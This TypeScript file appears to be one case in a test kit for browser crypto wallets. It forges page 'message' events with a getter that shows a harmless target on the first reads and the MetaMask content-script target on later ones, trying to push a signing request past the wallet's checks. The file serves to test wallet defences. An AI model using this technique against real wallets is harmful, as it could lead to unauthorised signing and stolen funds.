import type { Attack } from './kit/attack.ts'
import { WIRE_HEARD_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'wire',
  how: "Dispatches a message whose target is someone else's for the first who looks, and the wallet's for the next.",
  script: `
    for (let strangers = 0; strangers < 8; strangers++) {
      let reads = 0
      const { data } = attack.posted(attack.sign)
      const message = { data, get target() { return reads++ < strangers ? 'nobody' : 'metamask-contentscript' } }
      dispatchEvent(new MessageEvent('message', { data: message, source: window, origin: location.origin }))
    }
    await attack.sleep(300)
  `,
  open: { 'wallet-before': WIRE_HEARD_FIRST },
} satisfies Attack
